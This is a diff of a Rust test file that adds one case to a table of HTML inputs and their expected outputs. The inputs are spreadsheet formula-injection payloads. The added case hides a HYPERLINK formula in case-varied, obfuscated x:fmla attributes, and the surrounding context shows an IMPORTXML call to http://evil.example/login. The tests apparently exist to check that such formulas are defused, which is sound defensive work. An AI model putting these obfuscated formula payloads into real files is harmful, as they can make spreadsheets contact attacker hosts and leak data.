@@ -91,6 +91,10 @@ fn cells_of_pages_that_are_called_workbooks() {
             "Anchor: http://evil.example/ ",
         ),
         (
+            "<table><tr><td title=\"x:fmla='1'\" data-x:fmla='2' x:fmla='=1' X:FMLA = '=HYPERLINK(\"http://ev\"&amp;\"il.example/4\")'>x</table>",
+            "Anchor: http://evil.example/4 ",
+        ),
+        (
             "<html><table><tr><td>=IMPORTXML(CONCAT(\"http://evil\",\".example/login\"),\"//a\")</td></tr></table></html>",
             "Fetched: http://evil.example/login",
         ),
